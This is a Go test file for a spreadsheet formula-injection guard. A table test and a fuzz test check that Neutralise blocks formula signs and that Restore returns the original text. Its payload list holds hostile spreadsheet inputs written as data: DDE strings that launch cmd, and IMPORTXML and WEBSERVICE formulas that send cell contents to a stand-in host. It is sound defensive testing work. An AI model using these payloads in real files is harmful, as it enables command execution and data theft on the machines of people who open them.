package sheets

import (
	"strings"
	"testing"
)

// payloads are 200 texts and more that some spreadsheet takes for a formula or
// a command, and the like of them that it does not.
func payloads() []string {
	signs := []string{"=", "+", "-", "@", "\t", "\n", "＝", "＋", "－", "＠"}
	bodies := []string{
		"1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x\",\"点\")", "SUM(1+1)*cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"x\")",
		"IMPORTXML(CONCAT(\"http://x?v=\",A1),\"//a\")", "", "'", "=1", "WEBSERVICE(\"http://x\")",
	}
	var all []string
	for _, sign := range signs {
		for _, body := range bodies {
			all = append(all, sign+body, "'"+sign+body, "''"+sign+body, "文"+sign+body)
		}
	}
	return append(all, "", "'", "''", "'a", "420106198503152518", "-5", "+86 137", "_x0041_", "_x005F_x0041_", "_x005F_", "a_x000D_\n", " 空格 ", "a,b;c|\"d\"", "\n", "𠮷田䶮\u200d", "\u202e反")
}

// TestNeutralise guards every formula sign and gives every text back.
func TestNeutralise(t *testing.T) {
	for _, s := range append(payloads(), "\r=1", "\x00=1") {
		out := Neutralise(s)
		if strings.ContainsAny(out[:min(1, len(out))], "=+-@\t\r\n\x00") || strings.HasPrefix(out, "＝") {
			t.Errorf("%q is not guarded: %q", s, out)
		}
		if back := Restore(out); back != s {
			t.Errorf("%q comes back as %q", s, back)
		}
	}
}

// FuzzNeutralise holds that Restore undoes Neutralise for any text.
func FuzzNeutralise(f *testing.F) {
	for _, s := range payloads() {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if back := Restore(Neutralise(s)); back != s {
			t.Errorf("%q comes back as %q", s, back)
		}
	})
}
